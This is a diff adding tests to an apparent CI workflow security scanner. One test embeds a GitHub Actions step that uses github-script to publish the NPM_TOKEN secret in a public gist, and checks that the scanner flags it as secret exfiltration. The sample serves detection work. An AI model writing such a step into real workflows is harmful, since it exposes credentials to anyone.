@@ -547,3 +547,40 @@ describe('CI variants: here-documents, combined curl flags, env names aliasing s
     ).toEqual([]);
   });
 });
+
+describe('a secret written through the GitHub API by github-script', () => {
+  const wf = (script: string) =>
+    analyzeWorkflow(
+      [
+        'on: push',
+        'jobs:',
+        '  a:',
+        '    runs-on: ubuntu-latest',
+        '    steps:',
+        '      - uses: actions/github-script@v7',
+        '        env:',
+        '          T: ${{ secrets.NPM_TOKEN }}',
+        '        with:',
+        '          github-token: ${{ secrets.GH_PAT }}',
+        '          script: |',
+        ...script.split('\n').map((l) => `            ${l}`),
+      ].join('\n'),
+      '.github/workflows/a.yml',
+    );
+  it('into a public gist', () => {
+    expect(
+      wf(
+        "await github.rest.gists.create({ public: true, files: { 'ci.txt': { content: process.env.T } } });",
+      ),
+    ).toEqual([
+      expect.objectContaining({ rule: 'workflow.secrets-exfil', threat_type: 'data_exfiltration' }),
+    ]);
+  });
+  it('quiet: a comment with test results, the token only authenticating the call', () => {
+    expect(
+      wf(
+        'await github.rest.issues.createComment({ owner: context.repo.owner, repo: context.repo.repo, issue_number: context.issue.number, body: "tests passed" });',
+      ),
+    ).toEqual([]);
+  });
+});
